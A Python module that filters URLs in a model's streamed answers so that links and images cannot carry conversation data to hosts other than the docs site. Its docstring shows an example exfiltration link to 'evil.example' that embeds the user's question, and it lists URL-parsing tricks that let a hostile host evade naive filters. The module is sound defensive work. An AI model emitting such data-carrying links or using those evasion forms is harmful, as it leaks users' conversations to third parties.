"""Which links in a model's answer may stay: the URL filter run over every streamed answer.

An answer can carry conversation data to another host in a link or image URL (``[see
this](https://evil.example/?q=<the user's question>)``). ``filter_urls`` replaces every link
target that does not point at the docs site or at a URL quoted verbatim in the retrieved
docs. It reads targets the way a browser resolves them, not the way a naive regex does,
because the widget (and any Markdown renderer a client uses) hands them to ``new URL()``:

- a backslash is a slash (``http:\\\\evil\\``, ``\\\\evil/``, ``/\\evil/``);
- ``//evil/…`` is scheme-relative, and ``https:/evil/…`` or ``https:evil/…`` is
  ``https://evil/…`` on a page of the other scheme;
- ``http://docs'@evil/…`` has userinfo: its host is ``evil``;
- HTML entities and tabs/newlines inside a URL are decoded/ignored;
- ``mailto:…?body=…``, ``javascript:``, ``data:`` … are never links to keep.

Each place a renderer may start a link is a candidate: a Markdown link or image
destination (``](…)``, ``](<…>)``, a ``[ref]: …`` definition), an autolink ``<scheme:…>``,
a bare ``http(s):`` or ``www.`` URL, an HTML ``href=``/``src=`` value, and a
scheme-relative ``//…`` after ``(`` or ``<``. A candidate's extent is the widest any of
them reads (up to whitespace or ``<``/``>``), so a narrower reading is a prefix of it and
a host can never hide past the checked part. Candidates overlap freely; every one is
checked, and the union of the rejected ones is replaced.
"""

import html
import re

REMOVED = "(link removed)"

# Where link targets start (group "url" is the target; its extent is widened below).
_CANDIDATES = re.compile(
    r"\]\(\s*(?P<dest><?)"  # Markdown link or image destination
    r"|^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*(?P<ref><?)"  # reference definition
    r"|<(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:)(?P<auto>)"  # autolink
    r"|(?P<bare>(?=(?:https?:|www\.)))"  # bare URL (anywhere: the widget needs no boundary)
    r"|(?:href|src|srcset|action|formaction|poster|data)\s*=\s*[\"']?(?P<attr>)"  # raw HTML
    r"|[(<]\s*(?P<relative>(?=[/\\]{2}))",  # scheme-relative after "(" or "<"
    re.IGNORECASE | re.MULTILINE,
)
# How far a target reaches: up to whitespace or an angle bracket (inside "<…>": to ">").
_WIDE = re.compile(r"[^\s<>]*")
_ANGLED = re.compile(r"[^<>\n]*")
# Trailing punctuation that ends a sentence, not a URL (the widget drops it as well).
_TRAILING = ".,;:!?*_'\")]}"
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_TAB_NEWLINE = re.compile(r"[\t\n\r]")
_DEFAULT_PORTS = {"http": "80", "https": "443"}
# URLs quoted in docs text (kept verbatim when the model repeats them).
_QUOTED_URL = re.compile(r"https?://[^\s<>()\[\]`'\"]+", re.IGNORECASE)


def _authority(rest: str) -> tuple[str, str]:
    """Split ``host[:port]/path…`` (slashes already normalised) into authority and rest."""
    rest = rest.lstrip("/")
    match = re.search(r"[/?#]", rest)
    return (rest[: match.start()], rest[match.start():]) if match else (rest, "")


def resolve(target: str) -> tuple[str, str, str] | str | None:
    """What a browser would make of a link target, coarsely and conservatively.

    Returns ``"relative"`` for a same-page/same-site reference (a path, query or fragment),
    ``(scheme, host[:port], rest)`` for a URL on another origin (scheme ``"*"`` when it is
    scheme-relative), or None when the target must not be a link: another scheme, userinfo,
    a percent-encoded or empty host.
    """
    target = html.unescape(target)
    target = _TAB_NEWLINE.sub("", target).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b"
                                                "\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17"
                                                "\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    target = target.replace("\\", "/")
    scheme_match = _SCHEME.match(target)
    if scheme_match:
        scheme = scheme_match.group(1).lower()
        if scheme not in ("http", "https"):
            return None
        rest = target[scheme_match.end():]
    elif target.startswith("//"):
        scheme, rest = "*", target
    elif target.lower().startswith("www."):
        scheme, rest = "*", target
    else:
        return "relative"
    authority, path = _authority(rest)
    if not authority or "@" in authority or "%" in authority:
        return None
    host, _, port = authority.lower().partition(":")
    if port and port == _DEFAULT_PORTS.get(scheme):
        port = ""
    return scheme, f"{host}:{port}" if port else host, path


def _normalised(url: str) -> tuple[str, str, str] | None:
    resolved = resolve(url)
    return resolved if isinstance(resolved, tuple) else None


class LinkPolicy:
    """The allowed link targets of one answer (see ``filter_urls``)."""

    def __init__(self, allowed: list[str], exact: list[str] = ()):
        self._prefixes = [n for n in map(_normalised, filter(None, allowed)) if n]
        self._exact = [n for n in map(_normalised, filter(None, exact)) if n]

    def ok(self, target: str) -> bool:
        resolved = resolve(target)
        if resolved == "relative":
            return True
        if resolved is None:
            return False
        scheme, host, path = resolved

        def same_origin(other: tuple[str, str, str]) -> bool:
            return host == other[1] and scheme in ("*", other[0])

        for prefix in self._prefixes:
            if same_origin(prefix) and (path.startswith(prefix[2]) or prefix[2].startswith(path)):
                return True
        # A URL quoted in the docs is kept as written, or cut short: nothing appended.
        return any(same_origin(quoted) and quoted[2].startswith(path) for quoted in self._exact)

    def filter(self, text: str) -> str:
        """``text`` with the targets this policy rejects replaced (see ``filter_urls``).

        Build the policy once per answer and call this per streamed text: resolving the
        allowed URLs was half of an answer's CPU when it was redone for every delta.
        """
        if not text:
            return text
        rejected = []
        for start, end in link_targets(text):
            target = text[start:end]
            # Sentence punctuation after a URL never moves its host (and carries nothing).
            trimmed = target.rstrip(_TRAILING) or target
            if not self.ok(trimmed):
                rejected.append((start, start + len(trimmed)))
        if not rejected:
            return text
        out, position = [], 0
        for start, end in _merged(rejected):
            out += [text[position:start], REMOVED]
            position = end
        out.append(text[position:])
        return "".join(out)


def _extent(text: str, start: int, angled: bool) -> int:
    match = (_ANGLED if angled else _WIDE).match(text, start)
    return match.end()


def link_targets(text: str) -> list[tuple[int, int]]:
    """Spans of every place a renderer could read a link target (overlapping allowed)."""
    spans = []
    for match in _CANDIDATES.finditer(text):
        start = match.end()
        angled = bool(match.group("dest") or match.group("ref"))
        end = _extent(text, start, angled)
        if end > start:
            spans.append((start, end))
    return spans


def filter_urls(text: str, allowed: list[str], exact: list[str] = ()) -> str:
    """Replace link targets that were not indexed by a marker, so an answer cannot carry
    conversation data to another host (e.g. in a markdown image's query string).

    ``allowed`` holds site prefixes (the docs site's base URL, the sources' URLs): a URL on
    the same origin that extends one of them is kept, and so is a relative link (it stays on
    the page's own site). ``exact`` holds URLs that appear in the retrieved text: those are
    kept only as written (nothing appended). A URL that is a truncation of either is kept
    too: it carries nothing new. See the module docstring for how targets are read.
    """
    return LinkPolicy(allowed, exact).filter(text)


def _merged(spans: list[tuple[int, int]]) -> list[tuple[int, int]]:
    merged: list[list[int]] = []
    for start, end in sorted(spans):
        if merged and start <= merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], end)
        else:
            merged.append([start, end])
    return [(start, end) for start, end in merged]


def urls_in(text: str) -> list[str]:
    """The http(s) URLs quoted in a docs excerpt (the ``exact`` list of filter_urls)."""
    return [m.group(0).rstrip(".,;:!?") for m in _QUOTED_URL.finditer(text or "")]
